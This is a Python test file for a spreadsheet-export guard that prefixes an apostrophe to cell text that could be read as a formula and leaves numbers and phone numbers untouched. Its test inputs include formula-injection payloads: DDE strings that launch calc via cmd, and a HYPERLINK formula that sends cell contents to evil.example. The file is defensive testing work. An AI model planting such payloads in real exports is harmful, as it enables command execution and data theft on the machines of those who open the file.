"""What a spreadsheet could take for a formula gets an apostrophe, and numbers and telephone numbers do not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from storage_service.records.export.formulas import guarded, unguarded


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        '=HYPERLINK("https://evil.example/?"&A1)',
        "+A1",
        "-",
        "+",
        "- a list",
        "-1-A1",
        "+1 (555) CALL",
        "\uff1d1+1",
        "\uff0b1",
        "-\u0661",
        "'=1+1",
        "''@a",
    ],
)
def test_what_may_be_a_formula_gets_an_apostrophe(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        *("", "a", "a=1", "-5", "+5", "-5.25", "-1.234,50", "-1 234", "-1'234", "+1e-3", "-3%", "+44 20 7946 0958"),
        *("+1 (555) 010-9999", "+49 30/901820", "+49-30-901820", "' a", "it's", "'+44 20 7946 0958", " =1+1"),
    ],
)
def test_all_else_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text
    assert unguarded(text) == text


@given(st.text(st.sampled_from("'=+-@\t\r\n1a |!()\uff1d"), max_size=8))
def test_each_text_comes_back(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert guarded(text)[:1] not in set("=@\t\r\n\uff1d")


def test_a_long_text_takes_no_time() -> None:
    for text in ("+" + "1 " * 500_000 + "a", "-" + "1," * 500_000 + "a", "'" * 1_000_000, "+1" + "(" * 1_000_000 + "="):
        guarded(text)
